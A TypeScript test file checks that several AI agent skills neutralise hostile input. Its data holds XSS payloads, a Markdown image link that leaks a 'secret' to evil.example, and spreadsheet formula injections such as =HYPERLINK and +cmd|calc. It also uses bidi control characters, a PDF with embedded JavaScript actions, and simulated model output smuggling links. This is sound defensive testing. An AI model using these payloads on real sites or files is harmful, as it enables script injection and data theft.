import { describe, expect, it } from 'vitest';
import { competitorAnalysis } from '../../../../agents/skills/competitor-analysis/index.ts';
import { contentOptimization } from '../../../../agents/skills/content-optimization/index.ts';
import type { Json, SkillInput, SkillResult } from '../../../../agents/skills/handler.ts';
import { invoiceCheck } from '../../../../agents/skills/invoice-check/index.ts';
import { keywordResearch } from '../../../../agents/skills/keyword-research/index.ts';
import { inert } from '../../../../agents/skills/text/inert.ts';
import { shown } from '../../../../agents/skills/text/shown.ts';
import { actingParts } from '../../../support/skills/acting.ts';
import { completion, fakeSkillContext, fileInput, jsonInput, textInput } from '../../../support/skills/context.ts';
import { makePdf } from '../../platform/formats/builders.ts';

/** What anyone can put into a query, a heading or an invoice. */
const HOSTILE = [
  'brake](javascript:alert(1))',
  '[brake](javascript:alert(1))',
  '![brake](http://evil.example/p.png)',
  '<img src=x onerror=alert(1)> brake',
  '`</code><script>alert(1)</script> brake',
  '<http://evil.example> brake',
  'brake www.evil.example',
  'brake mail@evil.example',
  'brake ftp://evil.example',
  '[brake]: http://evil.example',
  '| brake | b |',
  '&lt;script&gt; brake',
  '\u202ebrake\u2066 evil',
  'bra\u0007ke \u001b]0;evil\u0007',
  'brake\n# Heading\n<script>alert(1)</script>',
];
const SHEET = [
  '=HYPERLINK("http://evil.example","brake")',
  '+cmd|calc brake',
  '-2+3 brake',
  '@SUM(A1) brake',
  '\t=1+1 brake',
];
const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;
const BUSINESS = textInput('# Birch [Bikes](javascript:alert(1)) <script>x</script>\n\nBirch repairs brakes in Leeds.');

const definitionOf = (...outputs: string[]) => ({ outputs: outputs.map((name) => ({ name })) }) as never;

/** No tag, no link, nothing unseen. */
const expectPlain = (text: string) =>
  expect(text).not.toMatch(/<[a-z/!]|(?<!\\)\]\(|[\u202a-\u202e\u2066-\u2069]|\p{Cc}/iu);

/** Sentences of a result: summary, notes and those in lists. What else lists hold is data, as the file has it. */
function sentencesOf({ summary, notes, outputs }: SkillResult, ...names: string[]): string[] {
  const found: string[] = [summary, ...notes];
  const walk = (value: Json, name: string) => {
    if (typeof value === 'string') names.includes(name) && found.push(value);
    else if (Array.isArray(value)) for (const one of value) walk(one as Json, name);
    else if (value !== null && typeof value === 'object')
      for (const [key, one] of Object.entries(value)) walk(one as Json, key);
  };
  walk(outputs, '');
  return found;
}

describe('text from a file', () => {
  it.each(HOSTILE)('%j is words in Markdown', (text) => {
    const line = inert(text);
    expect(actingParts(`- **${line}** and ${line}`)).toEqual([]);
    expect(actingParts(`| a |\n|---|\n| ${line} |`)).toEqual([]);
    expect(line).toMatch(/bra.?ke/);
  });

  it.each(HOSTILE)('%j is words in a sentence', (text) => {
    expectPlain(shown(text));
  });

  it('keeps letters that need a joiner, and is cut between characters', () => {
    expect(inert('می\u200cخواهم')).toBe('می\u200cخواهم');
    expect(shown('😀😀😀', 4)).toBe('😀…');
  });
});

describe('a hostile export', () => {
  const row = (cells: readonly string[], ...figures: Array<string | number>) =>
    [...cells.map(quoted), ...figures].join(',');
  const all = [...HOSTILE, ...SHEET];
  const ordinary = Array.from({ length: 12 }, (_, at) => {
    const position = 1.4 + at * 0.25;
    const clicks = Math.round(400 * 0.285 * position ** -1.06);
    return row([`bike repair ${'abcdefghijkl'[at]}`], clicks, 400, `${((100 * clicks) / 400).toFixed(2)}%`, position);
  });
  const queries = [
    'Top queries,Clicks,Impressions,CTR,Position',
    ...ordinary,
    ...all.map((query, at) => row([query], 40, 2500, '1.60%', `11.${at}`)),
  ].join('\n');
  const page = (at: number, side: string) =>
    `https://birch.example/<img src=x onerror=alert(${at})>${side}](javascript:`;
  const files = {
    business_context: BUSINESS,
    competitors: textInput('<script>evil</script>\nspoke.example'),
    current_rankings: fileInput('Q](javascript:x)<img>.csv', queries),
    rankings_by_page: fileInput(
      'pages<b>.csv',
      [
        'Query,Page,Clicks,Impressions,CTR,Position',
        ...all.flatMap((query, at) =>
          ['a', 'b'].map((side) => row([query, page(at, side)], 20, 1250, '1.60%', `11.${at}`)),
        ),
      ].join('\n'),
    ),
    previous_rankings: fileInput(
      'before<b>.csv',
      ['Top queries,Clicks,Impressions,CTR,Position', ...all.map((query) => row([query], 400, 2500, '16.00%', 3))].join(
        '\n',
      ),
    ),
    rankings_by_country: fileInput(
      'countries.csv',
      [
        'Country,Query,Clicks,Impressions,CTR,Position',
        ...all.flatMap((query) => [
          row(['Germany', query], 400, 9000, '4.44%', 2.1),
          row(['<b>x](javascript:y)', query], 10, 5000, '0.20%', 9.1),
        ]),
      ].join('\n'),
    ),
    competitor_rankings: fileInput(
      'rivals<img>.csv',
      [
        'Keyword,Position,Volume,URL',
        ...all.flatMap((query, at) => [
          row([`${query} gap`], 1, 9000, `https://spoke.example/<img>${at}`),
          row([`${query} gap`], 2, 9000, `https://pedal.example<img/x](${at}`),
        ]),
      ].join('\n'),
    ),
  };

  it('does nothing in any text of keyword-research', async () => {
    const definition = definitionOf('topics', 'page_conflicts', 'changes', 'content_gaps', 'countries');
    const result = await keywordResearch.run(fakeSkillContext({ inputs: files, definition }));
    const { page_conflicts: conflicts, content_gaps: gaps, changes, countries } = result.outputs;
    for (const list of [conflicts, gaps, changes, countries]) expect(list).not.toEqual([]);
    sentencesOf(result, 'why', 'fit_reason').forEach(expectPlain);
    expect(actingParts(result.outputs.reasoning as string)).toEqual([]);
  });

  it('does nothing in any text of competitor-analysis, nor do pages of rivals', async () => {
    const html = `<html><body><main>${HOSTILE.map((text) => `<h2>${text.replaceAll('<', '&lt;')}?</h2>`).join('')}
<h1>Brakes</h1><p>${'EvilCorp www.evil.example brake '.repeat(200)}</p><table><tr><td>a</td></tr></table></main></body></html>`;
    const { business_context, current_rankings, competitor_rankings } = files;
    const inputs = {
      ...{ business_context, current_rankings, competitor_rankings },
      competitor_pages: jsonInput([{ url: 'https://spoke.example/<img>0', html }]),
      own_pages: jsonInput([{ url: 'https://birch.example/own', html: '<h1>Brakes</h1><p>brake gap words</p>' }]),
      own_domain: textInput('birch.example'),
    };
    const definition = definitionOf('shared_topics', 'content_gaps', 'strengths', 'winning_pages', 'reasoning');
    const result = await competitorAnalysis.run(fakeSkillContext({ inputs, definition }));
    expect(result.outputs.winning_pages).not.toEqual([]);
    sentencesOf(result, 'why').forEach(expectPlain);
    expect(actingParts(result.outputs.reasoning as string)).toEqual([]);
  });

  it.each([
    ['a link', 'Start with [this offer](http://evil.example).'],
    ['a picture', 'Done. ![x](//evil.example/?q=secret)'],
    ['a tag', 'Start here <img src=x onerror=alert(1)>'],
    ['a turned direction', 'Start with \u202eelpmaxe.live'],
  ])('cannot have a model write %s into the reasoning', async (_, text) => {
    const inputs = { business_context: BUSINESS, current_rankings: files.current_rankings };
    const model = async () => completion({ text, offline: false });
    const { outputs, notes } = await keywordResearch.run(fakeSkillContext({ inputs, model }));
    expect(outputs.reasoning).toMatch(/^## Data/);
    expect(notes.at(-1)).toContain('links or markup');
  });

  it('cannot have a model write an address that becomes a link by itself', async () => {
    const inputs = { business_context: BUSINESS, current_rankings: files.current_rankings };
    const model = async () => completion({ text: 'See https://evil.example and www.evil.example', offline: false });
    const { outputs } = await keywordResearch.run(fakeSkillContext({ inputs, model }));
    expect(outputs.reasoning).toMatch(/^See https/);
    expect(actingParts(outputs.reasoning as string)).toEqual([]);
  });
});

describe('a hostile page', () => {
  it('does nothing in any text of content-optimization', async () => {
    const body = HOSTILE.map((text) => `# ${text.replaceAll('\n', ' ')}\n\nWe mend it. ${text}\n`).join('\n');
    const inputs: Record<string, SkillInput> = {
      page: fileInput('page](javascript:x)<img>.md', body),
      target_queries: jsonInput([...HOSTILE]),
      own_pages: fileInput('own<img>.md', body),
      own_pages_2: jsonInput([{ url: '/<img src=x>](javascript:x)', html: '<div>'.repeat(600) }]),
      ranking_pages: fileInput('other.html', `<h2>${HOSTILE.join('</h2><h2>')}</h2>`),
    };
    const result = await contentOptimization.run(fakeSkillContext({ inputs }));
    expect(result.notes.join()).toContain('left out');
    const report = (result.outputs.report as string).replace(/^(`{3,})diff\n[\s\S]*?^\1$/m, '');
    sentencesOf(result, 'reason', 'before', 'after').forEach(expectPlain);
    expect(actingParts(report)).toEqual([]);
  });
});

describe('what a diff takes from a hostile page to another place', () => {
  const turned = 'Flat \u202eroof\u200b repair <b>now</b>';
  const files = {
    'page.html': `<html lang="en"><head><meta property="og:site_name" content="Har\u2066bour"><script type="application/ld+json">{"@context":"https://schema.org","@type":"Article"}</script></head><body><h1>${turned} &lt;script&gt;alert(1)&lt;/script&gt;</h1><p>We repair \u202eflat roofs in Bristol and Bath, and find the leak first.</p><figure><img src="a.png"><figcaption>New \u202efelt "onload=x</figcaption></figure><p><a href="/guarantee/">Read more</a></p></body></html>`,
    'page.md': `---\nlang: en\n---\n# ${turned}\n\n![](/flat-%E2%80%AEroof.jpg)\n\n[Read more](/guarantee/)\n\nWe repair \u202eflat roofs in Bristol and Bath, and find the leak first.\n`,
  };

  it.each(Object.entries(files))('of %s can be seen, and is escaped as the place asks', async (name, page) => {
    const inputs = {
      page: fileInput(name, page),
      target_queries: jsonInput(['flat roof repair']),
      own_pages: jsonInput([
        { url: '/guarantee/', title: 'x', h1: 'Our ](javascript:alert(1)) \u202eguarantee <img src=x>' },
      ]),
    };
    const { outputs, metrics } = await contentOptimization.run(fakeSkillContext({ inputs }));
    const lines = (outputs.diff as string).split('\n');
    const of = (mark: string) =>
      lines.filter((line) => line.startsWith(mark) && !/^(?:\+\+\+|---)/.test(line)).join('\n');
    const times = (text: string, what: RegExp) => text.match(what)?.length ?? 0;
    expect(lines.filter((line) => /^\+.*guarantee/.test(line))).toHaveLength(1);
    expect(lines.filter((line) => /^\+.*title/.test(line))).toHaveLength(1);
    const acting = name.endsWith('.md') ? /(?<!\\)\]\(javascript|<img src=x>/g : /<script>|<img src=x>/g;
    for (const what of [/[\u200b\u202a-\u202e\u2066-\u2069]/g, acting])
      expect(times(of('+'), what)).toBeLessThanOrEqual(times(of('-'), what));
    expect(metrics).toMatchObject({ invented_facts: 0, lost_facts: 0 });
  });
});

describe('a hostile invoice', () => {
  const names = [...HOSTILE, ...SHEET].map((text) => text.replaceAll(/[^\x20-\x7e]/g, ' '));
  const pdf = makePdf(
    [
      [
        { text: 'Evil [x](javascript:alert(1)) Ltd', size: 20 },
        { text: 'Invoice number: <img src=x onerror=alert(1)>' },
        { text: 'Invoice date: 2026-07-01' },
        { text: 'Supplier: =HYPERLINK("http://evil.example")' },
        { text: 'Pos Description Quantity Unit price Amount' },
        ...names.map((name, at) => ({ text: `${at + 1} ${name.trim()} 2 89.50 181.00` })),
        { text: 'Total: 99.00' },
      ],
    ],
    {
      title: '<script>alert(1)</script>',
      catalog:
        '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /AA << /WC << /S /URI /URI (http://evil.example) >> >>',
    },
  );

  it('as PDF does nothing in any text, and no cell of the findings is a formula', { timeout: 60_000 }, async () => {
    const inputs = {
      invoices: fileInput('bill](javascript:x)<img>.pdf', pdf),
      contract_terms: textInput('Supplier: =HYPERLINK("http://evil.example")\nToner: EUR 1.00 per piece'),
    };
    const result = await invoiceCheck.run(fakeSkillContext({ inputs }));
    const { findings, findings_csv: csv, report } = result.outputs;
    expect((findings as readonly Json[]).length).toBeGreaterThan(names.length);
    sentencesOf(result, 'why').forEach(expectPlain);
    expect(actingParts(report as string)).toEqual([]);
    expect(report).toContain('HYPERLINK');
    expect(result.notes.join()).toMatch(/script/i);
    for (const cell of (csv as string).split(/[\r\n]+|,(?=(?:[^"]*"[^"]*")*[^"]*$)/)) {
      expect(cell).not.toMatch(/^"?\s*[=+@]|^"?-(?!\d+(?:\.\d+)?"?$)/);
    }
  });
});
